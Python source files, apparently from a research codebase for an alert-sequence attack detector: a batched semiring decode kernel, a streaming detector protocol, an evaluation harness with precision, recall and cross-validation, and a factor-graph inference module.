    def _flip_batched(self, window) -> None:
        """Pre-empt an imminent scalar flip with a doubling suffix scan.

        When a window's front stack is empty, the next ``pop_front``
        flips the whole back stack into front *suffix products* — W
        sequential scalar semiring matmuls per semiring.  This computes
        the same suffix products with a Hillis-Steele inclusive scan:
        ``ceil(log2 W)`` *stacked* matmuls per semiring, each over up to
        W slices.  The scan reassociates the float products (tree order
        instead of the sequential left fold), which the guard-banded
        decision contract explicitly absorbs: window aggregates feed
        only ``may_fire`` pre-filters whose assumed error bound
        (64·eps·length·magnitude) dominates the scan's *shallower*
        rounding depth, and every emitted number still comes from the
        exact sequential decode.  Structurally the result is exactly
        what ``_flip`` produces: same objects in ``_front_matrices``,
        same indices, back stack cleared.
        """
        if window._front_indices or len(window._back_indices) < _MIN_SCAN:
            # Non-empty front (no flip due) or a stack too small to be
            # worth the scan: the scalar flip handles it.
            return
        matrices = window._back_matrices
        n = len(matrices)
        # Front order: list end = oldest, so F[q] = back[n - 1 - q];
        # suffix[q] = F[q] ⊗ suffix[q - 1] (older factor on the left).
        suffix_max = np.stack(matrices[::-1])
        suffix_lse = suffix_max.copy()
        self._suffix_scan(suffix_max, suffix_lse)
        window._front_indices = window._back_indices[::-1]
        window._front_matrices = matrices[::-1]
        window._front_max = [suffix_max[q] for q in range(n)]
        window._front_lse = [suffix_lse[q] for q in range(n)]
        window._back_indices = []
        window._back_matrices = []
        window._back_max = []
        window._back_lse = []

    def _suffix_scan(self, stack_max: np.ndarray, stack_lse: np.ndarray) -> None:
        """In-place doubling scan: ``y[q] = M[q] ⊗ M[q-1] ⊗ ... ⊗ M[0]``.

        Older factors (higher index) compose on the left, matching the
        front stack's suffix recursion.  Each level's batched ops read
        both operands fully before the in-place assignment lands.
        """
        n = len(stack_max)
        span = 1
        while span < n:
            stacked = self._scratch.rows("scan_stacked", n - span, (_K, _K, _K))
            stack_max[span:] = maxplus_matmul_batch(
                stack_max[span:], stack_max[:-span], stacked_out=stacked
            )
            stack_lse[span:] = logsumexp_matmul_batch(
                stack_lse[span:], stack_lse[:-span], stacked_out=stacked
            )
            span *= 2

    def _prefix_scan(self, stack_max: np.ndarray, stack_lse: np.ndarray) -> None:
        """In-place doubling scan: ``y[q] = M[0] ⊗ M[1] ⊗ ... ⊗ M[q]``.

        Newer factors (higher index) compose on the right, matching the
        back stack's prefix recursion.
        """
        n = len(stack_max)
        span = 1
        while span < n:
            stacked = self._scratch.rows("scan_stacked", n - span, (_K, _K, _K))
            stack_max[span:] = maxplus_matmul_batch(
                stack_max[:-span], stack_max[span:], stacked_out=stacked
            )
            stack_lse[span:] = logsumexp_matmul_batch(
                stack_lse[:-span], stack_lse[span:], stacked_out=stacked
            )
            span *= 2

    # -- tree-scanned bonus-relocation patching ------------------------------
    def _patch_dirty(self, decoder, dirty, skip: Optional[int] = None) -> bool:
        """Replay ``_apply_dirty_to_window``'s replace loop with tree refolds.

        Refreshes the dirty unary rows (except ``skip``, the appended
        step whose row the stacked phase materialises) and patches each
        queued dirty step, recomputing the invalidated prefix/suffix
        aggregates with a doubling scan instead of W sequential scalar
        products.  Returns ``False`` if any step is not held by the
        structure (caller falls back to the exact re-aggregation, as the
        scalar path does).
        """
        for step in dirty:
            if step != skip:
                decoder._refresh_unary(step)
        window = decoder._window
        start = decoder._start
        for step in dirty:
            if step <= start or step == skip:
                continue
            if not self._replace_treescan(window, step, decoder._step_matrix(step)):
                return False
        return True

    def _replace_treescan(self, window, index: int, matrix: np.ndarray) -> bool:
        """``SlidingProductWindow.replace`` with scan-based refolds.

        Same structure walk and same resulting aggregates-modulo-
        reassociation; short refold tails stay on the scalar helpers
        (the scan's per-level call overhead only pays off past
        ``_MIN_SCAN`` elements).
        """
        back = window._back_indices
        if back and back[0] <= index <= back[-1]:
            position = index - back[0]
            window._back_matrices[position] = matrix
            if len(back) - position < _MIN_SCAN:
                window._refold_back(position)
            else:
                self._refold_back_scan(window, position)
            return True
        front = window._front_indices
        if front and front[-1] <= index <= front[0]:
            position = front[0] - index
            window._front_matrices[position] = matrix
            if len(front) - position < _MIN_SCAN:
                window._recompute_front(position)
            else:
                self._recompute_front_scan(window, position)
            return True
        return False

    def _refold_back_scan(self, window, position: int) -> None:
        """Scan-based ``_refold_back``: prefixes from ``position`` rightwards."""
        segment_max = np.stack(window._back_matrices[position:])
        segment_lse = segment_max.copy()
        self._prefix_scan(segment_max, segment_lse)
        if position > 0:
            m = len(segment_max)
            stacked = self._scratch.rows("scan_stacked", m, (_K, _K, _K))
            segment_max = maxplus_matmul_batch(
                np.broadcast_to(window._back_max[position - 1], (m, _K, _K)),
                segment_max,
                stacked_out=stacked,
            )
            segment_lse = logsumexp_matmul_batch(
                np.broadcast_to(window._back_lse[position - 1], (m, _K, _K)),
                segment_lse,
                stacked_out=stacked,
            )
        del window._back_max[position:]
        del window._back_lse[position:]
        window._back_max.extend(segment_max)
        window._back_lse.extend(segment_lse)

    def _recompute_front_scan(self, window, position: int) -> None:
        """Scan-based ``_recompute_front``: suffixes from ``position`` up."""
        segment_max = np.stack(window._front_matrices[position:])
        segment_lse = segment_max.copy()
        self._suffix_scan(segment_max, segment_lse)
        if position > 0:
            m = len(segment_max)
            stacked = self._scratch.rows("scan_stacked", m, (_K, _K, _K))
            segment_max = maxplus_matmul_batch(
                segment_max,
                np.broadcast_to(window._front_max[position - 1], (m, _K, _K)),
                stacked_out=stacked,
            )
            segment_lse = logsumexp_matmul_batch(
                segment_lse,
                np.broadcast_to(window._front_lse[position - 1], (m, _K, _K)),
                stacked_out=stacked,
            )
        del window._front_max[position:]
        del window._front_lse[position:]
        window._front_max.extend(segment_max)
        window._front_lse.extend(segment_lse)

    # -- stacked decisions ---------------------------------------------------
    def _decide_fill(self, entries: List[tuple]) -> List[Tuple[int, object]]:
        """Stacked threshold decisions for window-filling entities.

        Replays the per-alert read-outs (``final_state`` argmax of the
        Viterbi score, ``final_marginal`` from the normalised forward
        message) across the stack; only firing entities pay for the
        exact per-entity materialisation.
        """
        tagger = self._tagger
        scratch = self._scratch
        n = len(entries)
        score = scratch.rows("df_score", n, (_K,))
        alpha = scratch.rows("df_alpha", n, (_K,))
        for i, (_, _, _, decoder) in enumerate(entries):
            last = decoder._length - 1
            score[i] = decoder._score[last]
            alpha[i] = decoder._alpha[last]
        final_state = np.argmax(score, axis=1)
        marginal = np.exp(alpha - _logsumexp(alpha, axis=1, keepdims=True))
        # ~(p < threshold), not (p >= threshold): a NaN posterior (hard
        # zeros in user parameters) fails the scalar path's `<` test and
        # therefore fires there — keep the stacked mask a faithful
        # replay, and let _finalize_decision re-decide exactly.
        fire = (final_state == _MALICIOUS) & ~(
            marginal[:, _MALICIOUS] < tagger.detection_threshold
        )
        hits: List[Tuple[int, object]] = []
        for i in np.flatnonzero(fire):
            position, alert, track, decoder = entries[i]
            detection = tagger._finalize_decision(track, alert, decoder)
            if detection is not None:
                hits.append((position, detection))
        return hits

    def _decide_windowed(self, entries: List[tuple]) -> List[Tuple[int, object]]:
        """Stacked guard-banded ``may_fire`` pre-filter, then exact decide.

        The aggregate window products are folded for all entities in
        (at most) two stacked vec-mat reduces per semiring, grouped by
        which stacks each window currently populates; the guard-band
        arithmetic then replays ``StreamingDecoder.may_fire``
        elementwise.  ``False`` is authoritative exactly as in the
        scalar path; survivors consult the exact cached window decode.
        """
        tagger = self._tagger
        scratch = self._scratch
        threshold = tagger.detection_threshold
        n = len(entries)
        heads = scratch.rows("dw_heads", n, (_K,))
        lengths = scratch.rows("dw_lengths", n, ())
        for i, (_, _, _, decoder) in enumerate(entries):
            heads[i] = decoder._unary[decoder._start]
            lengths[i] = decoder.length
        score = scratch.rows("dw_score", n, (_K,))
        forward = scratch.rows("dw_forward", n, (_K,))
        groups: Dict[Tuple[bool, bool], List[int]] = {}
        for i, (_, _, _, decoder) in enumerate(entries):
            window = decoder._window
            key = (bool(window._front_indices), bool(window._back_indices))
            groups.setdefault(key, []).append(i)
        for (has_front, has_back), indices in groups.items():
            idx = np.array(indices)
            sub_score = heads[idx]
            sub_forward = sub_score
            g = len(indices)
            stacked = scratch.rows("dw_stacked", g, (_K, _K))
            for front in (True, False):
                present = has_front if front else has_back
                if not present:
                    continue
                fold_max = scratch.rows("dw_fold_max", g, (_K, _K))
                fold_lse = scratch.rows("dw_fold_lse", g, (_K, _K))
                for j, i in enumerate(indices):
                    window = entries[i][3]._window
                    if front:
                        fold_max[j] = window._front_max[-1]
                        fold_lse[j] = window._front_lse[-1]
                    else:
                        fold_max[j] = window._back_max[-1]
                        fold_lse[j] = window._back_lse[-1]
                sub_score = maxplus_vecmat_batch(
                    sub_score, fold_max, stacked_out=stacked
                )
                sub_forward = logsumexp_vecmat_batch(
                    sub_forward, fold_lse, stacked_out=stacked
                )
            score[idx] = sub_score
            forward[idx] = sub_forward
        # Guard-banded pre-filter, elementwise identical to may_fire().
        magnitude = np.max(np.abs(score), axis=1)
        guard = np.maximum(_DECISION_GUARD, (_GUARD_SLACK * lengths) * magnitude)
        cannot_fire = score[:, _MALICIOUS] < np.max(score, axis=1) - guard
        probability = np.exp(forward[:, _MALICIOUS] - _logsumexp(forward, axis=1))
        candidates = ~cannot_fire & (
            np.isnan(probability) | (probability >= threshold - guard)
        )
        hits: List[Tuple[int, object]] = []
        for i in np.flatnonzero(candidates):
            position, alert, track, decoder = entries[i]
            detection = tagger._finalize_decision(track, alert, decoder)
            if detection is not None:
                hits.append((position, detection))
        return hits


__all__ = ["BatchedDecodeKernel"]
