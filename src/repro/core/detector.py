"""The formal streaming-detector protocol.

Every detection model deployed on the testbed -- the factor-graph
:class:`~repro.core.attack_tagger.AttackTagger`, the
:class:`~repro.core.rule_based.RuleBasedDetector`, and the
:class:`~repro.core.baselines.CriticalAlertDetector` /
:class:`~repro.core.baselines.NaiveBayesDetector` comparison baselines
-- exposes the same per-entity streaming surface, and the pipeline's
detection stage (including the sharded pool in
:mod:`repro.testbed.sharding`) is written against that surface rather
than any concrete model.  This module states the contract once, as a
:class:`typing.Protocol`, so new detectors and detector *containers*
(a :class:`~repro.testbed.sharding.ShardedDetectorPool` is itself a
``Detector``) can be checked structurally::

    assert isinstance(my_detector, Detector)

The contract is deliberately per-entity: all mutable state must be
keyed by ``alert.entity`` and entities must never share state, which is
the invariant that makes hash-sharding entities across workers exact
(see ``README.md``, "shard routing invariant").
"""

from __future__ import annotations

from typing import Iterable, Optional, Protocol, runtime_checkable

from .alerts import Alert
from .attack_tagger import Detection


@runtime_checkable
class Detector(Protocol):
    """Structural protocol for streaming per-entity detectors.

    Implementations must keep all mutable inference state keyed by
    entity so that two detectors fed disjoint entity sub-streams behave
    exactly like one detector fed the union stream.
    """

    @property
    def detections(self) -> list[Detection]:
        """All detections emitted so far, in emission order."""
        ...

    def observe(self, alert: Alert) -> Optional[Detection]:
        """Consume one alert; return a detection if one fires."""
        ...

    def observe_batch(self, alerts: Iterable[Alert]) -> list[Detection]:
        """Consume a batch of alerts in order; return fired detections.

        Implementations MAY additionally expose two optional extensions
        that detector containers discover with ``getattr``:

        * ``observe_batch_indexed(alerts) -> list[tuple[int, Detection]]``
          — the same semantics, but each detection is paired with the
          position of its triggering alert inside the sub-batch, and the
          implementation is free to advance the whole sub-batch at once
          (the :class:`~repro.core.attack_tagger.AttackTagger`'s
          ``engine="batched"`` stacked cross-entity kernel).  Results
          must be identical to calling :meth:`observe` per alert.
        * ``kernel_seconds: float`` — cumulative wall-clock seconds
          spent inside such a vectorised kernel, for stage timing
          attribution (``PipelineStats.detect_kernel_seconds``).

        A further optional extension group enables **live resharding**
        (``ShardedDetectorPool.reshard``): containers migrate
        per-entity state between replicas of the same configuration
        through

        * ``export_entity_tracks() -> dict[str, object]`` — every
          entity's state as an opaque migratable value;
        * ``adopt_entity_track(entity, track) -> None`` — take
          ownership of one exported value (the entity must not already
          be tracked);
        * ``replace_detections(detections) -> None`` — overwrite the
          emitted-detections log (the container rebuilds each replica's
          log from its own merged stream-order log after re-routing).

        Containers treat the exported values as opaque; a detector
        without this group simply cannot be resharded live (the pool
        raises ``TypeError``).
        """
        ...

    def reset(self) -> None:
        """Forget all per-entity state and past detections."""
        ...

    def reset_entity(self, entity: str) -> None:
        """Forget one entity's state."""
        ...


__all__ = ["Detector"]
