"""Detector evaluation: detection metrics, cross-validation, sweeps.

The evaluation harness treats every detector uniformly through the
streaming ``run_sequence`` API shared by :class:`AttackTagger`, the
rule-based baseline, and the two simple baselines.  Given a corpus of
attack and benign sequences it computes:

* classification metrics (precision / recall / F1 / false-positive
  rate) at the level of whole sequences,
* preemption metrics (preemption rate, lead time) via
  :mod:`repro.core.preemption`,
* the observation-window sweep behind the paper's Insight 2 (a
  preemption model's effective range is sequences of two to four
  alerts), and
* k-fold cross-validation so the factor-graph model is never evaluated
  on the incidents it was trained on.
"""

from __future__ import annotations

import dataclasses
from typing import Callable, Iterable, Optional, Protocol, Sequence

import numpy as np

from .alerts import AlertVocabulary, DEFAULT_VOCABULARY
from .attack_tagger import AttackTagger, Detection, DetectionTrace
from .preemption import PreemptionResult, evaluate_preemption, summarize_outcomes
from .sequences import AlertSequence


class SequenceDetector(Protocol):
    """Structural type all evaluated detectors satisfy."""

    def run_sequence(self, sequence: AlertSequence, entity: Optional[str] = None) -> Optional[Detection]:
        """Run a full sequence and return the first detection, if any."""
        ...  # pragma: no cover - protocol definition


@dataclasses.dataclass(frozen=True)
class EvaluationExample:
    """One evaluation item: a sequence and whether it is a real attack."""

    sequence: AlertSequence
    is_attack: bool
    identifier: str = ""


@dataclasses.dataclass
class ConfusionCounts:
    """Sequence-level confusion counts."""

    true_positives: int = 0
    false_positives: int = 0
    true_negatives: int = 0
    false_negatives: int = 0

    @property
    def precision(self) -> float:
        """Fraction of flagged sequences that were real attacks."""
        denominator = self.true_positives + self.false_positives
        return self.true_positives / denominator if denominator else 0.0

    @property
    def recall(self) -> float:
        """Fraction of real attacks that were flagged."""
        denominator = self.true_positives + self.false_negatives
        return self.true_positives / denominator if denominator else 0.0

    @property
    def f1(self) -> float:
        """Harmonic mean of precision and recall."""
        p, r = self.precision, self.recall
        return 2 * p * r / (p + r) if (p + r) else 0.0

    @property
    def false_positive_rate(self) -> float:
        """Fraction of benign sequences that were flagged."""
        denominator = self.false_positives + self.true_negatives
        return self.false_positives / denominator if denominator else 0.0

    @property
    def accuracy(self) -> float:
        """Overall fraction of correct decisions."""
        total = (
            self.true_positives + self.false_positives + self.true_negatives + self.false_negatives
        )
        return (self.true_positives + self.true_negatives) / total if total else 0.0


@dataclasses.dataclass
class EvaluationReport:
    """Full result of evaluating one detector on one example set."""

    detector_name: str
    confusion: ConfusionCounts
    preemption: dict[str, float]
    per_example: list[tuple[str, bool, Optional[Detection], Optional[PreemptionResult]]]

    def summary(self) -> dict[str, float]:
        """Flat mapping of the headline metrics (for benchmark tables)."""
        return {
            "precision": self.confusion.precision,
            "recall": self.confusion.recall,
            "f1": self.confusion.f1,
            "false_positive_rate": self.confusion.false_positive_rate,
            "accuracy": self.confusion.accuracy,
            "preemption_rate": self.preemption.get("preemption_rate", 0.0),
            "detection_rate": self.preemption.get("detection_rate", 0.0),
            "mean_lead_seconds": self.preemption.get("mean_lead_seconds", 0.0),
        }


def evaluate_detector(
    detector: SequenceDetector,
    examples: Sequence[EvaluationExample],
    *,
    detector_name: str = "",
    vocabulary: Optional[AlertVocabulary] = None,
) -> EvaluationReport:
    """Evaluate a detector on labelled sequences.

    Each example is run through a fresh per-entity track; a non-null
    detection counts as "flagged".  Preemption outcomes are computed for
    attack examples only.
    """
    vocab = vocabulary or DEFAULT_VOCABULARY
    confusion = ConfusionCounts()
    preemption_results: list[PreemptionResult] = []
    per_example: list[tuple[str, bool, Optional[Detection], Optional[PreemptionResult]]] = []
    for index, example in enumerate(examples):
        entity = f"entity:eval-{index}"
        detection = detector.run_sequence(example.sequence, entity=entity)
        flagged = detection is not None
        if example.is_attack and flagged:
            confusion.true_positives += 1
        elif example.is_attack and not flagged:
            confusion.false_negatives += 1
        elif not example.is_attack and flagged:
            confusion.false_positives += 1
        else:
            confusion.true_negatives += 1
        preemption: Optional[PreemptionResult] = None
        if example.is_attack:
            preemption = evaluate_preemption(
                example.sequence, detection, is_attack=True, vocabulary=vocab
            )
            preemption_results.append(preemption)
        per_example.append((example.identifier or entity, example.is_attack, detection, preemption))
    return EvaluationReport(
        detector_name=detector_name or detector.__class__.__name__,
        confusion=confusion,
        preemption=summarize_outcomes(preemption_results),
        per_example=per_example,
    )


def _report_from_traces(
    tagger: AttackTagger,
    examples: Sequence[EvaluationExample],
    traces: Sequence[DetectionTrace],
    *,
    threshold: float,
    window_length: Optional[int],
    detector_name: str,
    identifier_suffix: str,
    vocabulary: AlertVocabulary,
    detection_cache: dict[tuple[int, int], Detection],
) -> EvaluationReport:
    """Build one :class:`EvaluationReport` from precomputed traces.

    Shares the per-sequence traces across sweep points: the first
    threshold crossing within the observation window identifies the
    detection step, and only genuinely flagged examples pay for
    materialising the full :class:`Detection` record (cached across
    sweep points, since the crossing step is frequently the same).
    """
    crossings = [
        trace.first_crossing(threshold, limit=window_length) for trace in traces
    ]
    # Materialise every uncached flagged detection in one batched decode.
    pending = [
        (index, crossing)
        for index, crossing in enumerate(crossings)
        if crossing is not None and (index, crossing) not in detection_cache
    ]
    if pending:
        materialised = tagger.detections_at(
            [
                (examples[index].sequence, crossing, f"entity:eval-{index}")
                for index, crossing in pending
            ]
        )
        detection_cache.update(zip(pending, materialised))
    confusion = ConfusionCounts()
    preemption_results: list[PreemptionResult] = []
    per_example: list[tuple[str, bool, Optional[Detection], Optional[PreemptionResult]]] = []
    for index, (example, crossing) in enumerate(zip(examples, crossings)):
        entity = f"entity:eval-{index}"
        sequence = (
            example.sequence if window_length is None else example.sequence.prefix(window_length)
        )
        detection: Optional[Detection] = None
        if crossing is not None:
            detection = detection_cache[(index, crossing)]
        flagged = detection is not None
        if example.is_attack and flagged:
            confusion.true_positives += 1
        elif example.is_attack and not flagged:
            confusion.false_negatives += 1
        elif not example.is_attack and flagged:
            confusion.false_positives += 1
        else:
            confusion.true_negatives += 1
        preemption: Optional[PreemptionResult] = None
        if example.is_attack:
            preemption = evaluate_preemption(
                sequence, detection, is_attack=True, vocabulary=vocabulary
            )
            preemption_results.append(preemption)
        label = (example.identifier + identifier_suffix) or entity
        per_example.append((label, example.is_attack, detection, preemption))
    return EvaluationReport(
        detector_name=detector_name,
        confusion=confusion,
        preemption=summarize_outcomes(preemption_results),
        per_example=per_example,
    )


def window_sweep(
    detector_factory: Callable[[], SequenceDetector],
    examples: Sequence[EvaluationExample],
    window_lengths: Iterable[int],
    *,
    vocabulary: Optional[AlertVocabulary] = None,
) -> dict[int, EvaluationReport]:
    """Evaluate detection quality as a function of observation-window length.

    For each window length ``L`` every sequence is truncated to its
    first ``L`` alerts before evaluation.  This reproduces Insight 2:
    one-alert windows cannot discriminate, while long windows only
    "detect" attacks that have already matured past the damage point.

    For :class:`AttackTagger` detectors the sweep runs on the fast
    trace path: the detector is causal, so one O(T) streaming replay
    per sequence yields the per-prefix statistics for *every* window
    length at once, instead of re-replaying the corpus per length.
    Other detectors fall back to the generic per-length evaluation.
    """
    vocab = vocabulary or DEFAULT_VOCABULARY
    probe = detector_factory()
    if isinstance(probe, AttackTagger):
        traces = probe.detection_traces([e.sequence for e in examples])
        cache: dict[tuple[int, int], Detection] = {}
        return {
            length: _report_from_traces(
                probe,
                examples,
                traces,
                threshold=probe.detection_threshold,
                window_length=length,
                detector_name=f"window={length}",
                identifier_suffix=f"|w{length}",
                vocabulary=vocab,
                detection_cache=cache,
            )
            for length in window_lengths
        }
    reports: dict[int, EvaluationReport] = {}
    for length in window_lengths:
        truncated = [
            EvaluationExample(
                sequence=e.sequence.prefix(length),
                is_attack=e.is_attack,
                identifier=f"{e.identifier}|w{length}",
            )
            for e in examples
        ]
        detector = detector_factory()
        reports[length] = evaluate_detector(
            detector, truncated, detector_name=f"window={length}", vocabulary=vocab
        )
    return reports


def threshold_sweep(
    tagger: AttackTagger,
    examples: Sequence[EvaluationExample],
    thresholds: Iterable[float],
    *,
    vocabulary: Optional[AlertVocabulary] = None,
) -> dict[float, EvaluationReport]:
    """Evaluate an :class:`AttackTagger` at many detection thresholds.

    The threshold only gates *emission* -- it never changes the state
    evolution -- so a single streaming replay per sequence (one
    :class:`DetectionTrace`) serves every threshold: the report for
    threshold ``theta`` flags a sequence at the first step whose MAP
    state is malicious with posterior >= ``theta``.  This is the
    corpus-level ROC sweep at O(total alerts) instead of
    O(len(thresholds) * total alerts).
    """
    if not isinstance(tagger, AttackTagger):
        raise TypeError("threshold_sweep requires an AttackTagger (trace-capable) detector")
    vocab = vocabulary or DEFAULT_VOCABULARY
    traces = tagger.detection_traces([e.sequence for e in examples])
    cache: dict[tuple[int, int], Detection] = {}
    return {
        float(threshold): _report_from_traces(
            tagger,
            examples,
            traces,
            threshold=float(threshold),
            window_length=None,
            detector_name=f"threshold={float(threshold):g}",
            identifier_suffix="",
            vocabulary=vocab,
            detection_cache=cache,
        )
        for threshold in thresholds
    }


def k_fold_indices(num_items: int, folds: int, *, seed: int = 0) -> list[np.ndarray]:
    """Deterministic shuffled k-fold split of ``range(num_items)``."""
    if folds < 2:
        raise ValueError("folds must be >= 2")
    rng = np.random.default_rng(seed)
    order = rng.permutation(num_items)
    return [order[i::folds] for i in range(folds)]


@dataclasses.dataclass
class CrossValidationResult:
    """Per-fold reports plus averaged headline metrics."""

    fold_reports: list[EvaluationReport]

    def mean_summary(self) -> dict[str, float]:
        """Average of each headline metric across folds."""
        if not self.fold_reports:
            return {}
        keys = self.fold_reports[0].summary().keys()
        return {
            key: float(np.mean([report.summary()[key] for report in self.fold_reports]))
            for key in keys
        }


def cross_validate(
    train_and_build: Callable[[Sequence[EvaluationExample]], SequenceDetector],
    examples: Sequence[EvaluationExample],
    *,
    folds: int = 5,
    seed: int = 0,
    detector_name: str = "",
    vocabulary: Optional[AlertVocabulary] = None,
) -> CrossValidationResult:
    """K-fold cross-validation for detectors that are trained on data.

    ``train_and_build`` receives the training examples of a fold and
    must return a ready-to-evaluate detector.
    """
    vocab = vocabulary or DEFAULT_VOCABULARY
    examples = list(examples)
    fold_reports: list[EvaluationReport] = []
    for fold, test_indices in enumerate(k_fold_indices(len(examples), folds, seed=seed)):
        test_set = set(int(i) for i in test_indices)
        train_examples = [e for i, e in enumerate(examples) if i not in test_set]
        test_examples = [e for i, e in enumerate(examples) if i in test_set]
        if not test_examples:
            continue
        detector = train_and_build(train_examples)
        report = evaluate_detector(
            detector,
            test_examples,
            detector_name=f"{detector_name or 'detector'}[fold={fold}]",
            vocabulary=vocab,
        )
        fold_reports.append(report)
    return CrossValidationResult(fold_reports=fold_reports)


def compare_detectors(
    detectors: dict[str, SequenceDetector],
    examples: Sequence[EvaluationExample],
    *,
    vocabulary: Optional[AlertVocabulary] = None,
) -> dict[str, dict[str, float]]:
    """Evaluate several detectors on the same examples.

    Returns ``{detector name: headline metric summary}`` -- the rows of
    the model-comparison benchmark table.
    """
    return {
        name: evaluate_detector(det, examples, detector_name=name, vocabulary=vocabulary).summary()
        for name, det in detectors.items()
    }


__all__ = [
    "SequenceDetector",
    "EvaluationExample",
    "ConfusionCounts",
    "EvaluationReport",
    "evaluate_detector",
    "window_sweep",
    "threshold_sweep",
    "k_fold_indices",
    "CrossValidationResult",
    "cross_validate",
    "compare_detectors",
]
