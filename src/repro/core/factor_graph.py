"""A discrete factor graph with sum-product and max-product inference.

The paper's preemption model (referencing Cao et al., "On preempting
advanced persistent threats using probabilistic graphical models") is a
factor graph over a chain of hidden per-event attack states, with
factors connecting each observed alert to its hidden state, consecutive
hidden states to each other, and known attack patterns to groups of
states.  This module implements the general machinery:

* :class:`Variable` -- a discrete random variable with a finite domain,
* :class:`Factor` -- a non-negative potential table over a tuple of
  variables,
* :class:`FactorGraph` -- the bipartite graph plus belief-propagation
  inference (sum-product for marginals, max-product for MAP
  assignments).  Exact on trees/chains; loopy BP with damping otherwise.

All message arithmetic is carried out in log-space with NumPy
operations so long chains (hundreds of alerts) remain numerically
stable and vectorised.
"""

from __future__ import annotations

import dataclasses
import math
from typing import Dict, Iterable, List, Mapping, Optional, Sequence, Tuple, Union

import numpy as np

_NEG_INF = -1e30


@dataclasses.dataclass(frozen=True)
class Variable:
    """A discrete random variable.

    Parameters
    ----------
    name:
        Unique identifier within a graph.
    cardinality:
        Number of values the variable can take; values are the
        integers ``0 .. cardinality - 1``.
    """

    name: str
    cardinality: int

    def __post_init__(self) -> None:
        if self.cardinality < 1:
            raise ValueError(f"variable {self.name!r} must have cardinality >= 1")


class Factor:
    """A potential table over one or more variables.

    The table is stored in log-space internally.  Potentials must be
    non-negative; zero entries are mapped to a large negative log value
    rather than ``-inf`` to keep loopy BP well-behaved.
    """

    def __init__(self, name: str, variables: Sequence[Variable], table: np.ndarray) -> None:
        table = np.asarray(table, dtype=np.float64)
        expected_shape = tuple(v.cardinality for v in variables)
        if table.shape != expected_shape:
            raise ValueError(
                f"factor {name!r}: table shape {table.shape} does not match "
                f"variable cardinalities {expected_shape}"
            )
        if np.any(table < 0):
            raise ValueError(f"factor {name!r}: potentials must be non-negative")
        if not np.any(table > 0):
            raise ValueError(f"factor {name!r}: potential table is identically zero")
        self.name = name
        self.variables: Tuple[Variable, ...] = tuple(variables)
        with np.errstate(divide="ignore"):
            log_table = np.log(table)
        self.log_table = np.where(np.isfinite(log_table), log_table, _NEG_INF)

    @classmethod
    def from_log(cls, name: str, variables: Sequence[Variable], log_table: np.ndarray) -> "Factor":
        """Build a factor directly from a log-potential table."""
        factor = cls.__new__(cls)
        log_table = np.asarray(log_table, dtype=np.float64)
        expected_shape = tuple(v.cardinality for v in variables)
        if log_table.shape != expected_shape:
            raise ValueError(
                f"factor {name!r}: log table shape {log_table.shape} does not match "
                f"variable cardinalities {expected_shape}"
            )
        factor.name = name
        factor.variables = tuple(variables)
        factor.log_table = np.where(np.isfinite(log_table), log_table, _NEG_INF)
        return factor

    @property
    def arity(self) -> int:
        """Number of variables this factor touches."""
        return len(self.variables)

    def variable_index(self, variable: Variable) -> int:
        """Position of ``variable`` in this factor's scope."""
        for i, v in enumerate(self.variables):
            if v.name == variable.name:
                return i
        raise KeyError(f"variable {variable.name!r} not in factor {self.name!r}")

    def potential(self, assignment: Mapping[str, int]) -> float:
        """Evaluate the (linear-space) potential at a full assignment."""
        index = tuple(assignment[v.name] for v in self.variables)
        return float(np.exp(self.log_table[index]))

    def log_potential(self, assignment: Mapping[str, int]) -> float:
        """Evaluate the log potential at a full assignment."""
        index = tuple(assignment[v.name] for v in self.variables)
        return float(self.log_table[index])


def _logsumexp(
    array: np.ndarray,
    axis: Optional[Union[int, Tuple[int, ...]]] = None,
    keepdims: bool = False,
) -> np.ndarray:
    """Numerically stable log-sum-exp over any (stacked) axis.

    Slices whose maximum is ``-inf`` (all mass zero) reduce to ``-inf``
    rather than a garbage value anchored at 0; ``+inf`` propagates.
    Finite inputs -- including the ``_NEG_INF`` sentinel -- follow the
    usual max-shifted computation bit-for-bit.

    ``axis`` may be an integer or a tuple of axes, so a stacked batch of
    vectors reduces in one vectorised call; each slice of the result is
    bit-identical to reducing that slice on its own (the shift, the
    exponentials, and the K-term sums are the same scalar operations
    either way -- pinned by the unit tests).  ``keepdims=True`` keeps
    the reduced axes as size-1 dimensions for broadcasting (the batched
    decode kernel's normalisation path).
    """
    maximum = np.max(array, axis=axis, keepdims=True)
    finite = np.isfinite(maximum)
    safe_max = np.where(finite, maximum, 0.0)
    with np.errstate(divide="ignore"):
        summed = np.log(np.sum(np.exp(array - safe_max), axis=axis, keepdims=True))
    result = np.where(finite, safe_max + summed, maximum)
    if keepdims:
        return result
    if axis is not None:
        result = np.squeeze(result, axis=axis)
    else:
        result = result.reshape(())
    return result


def _normalize_log(message: np.ndarray) -> np.ndarray:
    """Normalise a log-space message so its exponentials sum to 1."""
    return message - _logsumexp(message)


class FactorGraph:
    """Bipartite graph of variables and factors with BP inference."""

    def __init__(self) -> None:
        self._variables: Dict[str, Variable] = {}
        self._factors: Dict[str, Factor] = {}
        self._var_to_factors: Dict[str, List[str]] = {}
        self._variables_view: Optional[tuple[Variable, ...]] = None
        self._factors_view: Optional[tuple[Factor, ...]] = None

    # -- construction -----------------------------------------------------
    def add_variable(self, variable: Variable) -> Variable:
        """Add a variable; re-adding an identical variable is a no-op."""
        existing = self._variables.get(variable.name)
        if existing is not None:
            if existing.cardinality != variable.cardinality:
                raise ValueError(
                    f"variable {variable.name!r} re-added with different cardinality"
                )
            return existing
        self._variables[variable.name] = variable
        self._var_to_factors[variable.name] = []
        self._variables_view = None
        return variable

    def add_factor(self, factor: Factor) -> Factor:
        """Add a factor; all its variables must already be present."""
        if factor.name in self._factors:
            raise ValueError(f"duplicate factor name: {factor.name!r}")
        for variable in factor.variables:
            if variable.name not in self._variables:
                raise KeyError(
                    f"factor {factor.name!r} references unknown variable {variable.name!r}"
                )
        self._factors[factor.name] = factor
        for variable in factor.variables:
            self._var_to_factors[variable.name].append(factor.name)
        self._factors_view = None
        return factor

    # -- introspection ------------------------------------------------------
    @property
    def variables(self) -> tuple[Variable, ...]:
        """All variables, in insertion order (cached between mutations)."""
        if self._variables_view is None:
            self._variables_view = tuple(self._variables.values())
        return self._variables_view

    @property
    def factors(self) -> tuple[Factor, ...]:
        """All factors, in insertion order (cached between mutations)."""
        if self._factors_view is None:
            self._factors_view = tuple(self._factors.values())
        return self._factors_view

    def variable(self, name: str) -> Variable:
        """Look up a variable by name."""
        return self._variables[name]

    def factors_of(self, variable_name: str) -> List[Factor]:
        """Factors adjacent to a variable."""
        return [self._factors[f] for f in self._var_to_factors[variable_name]]

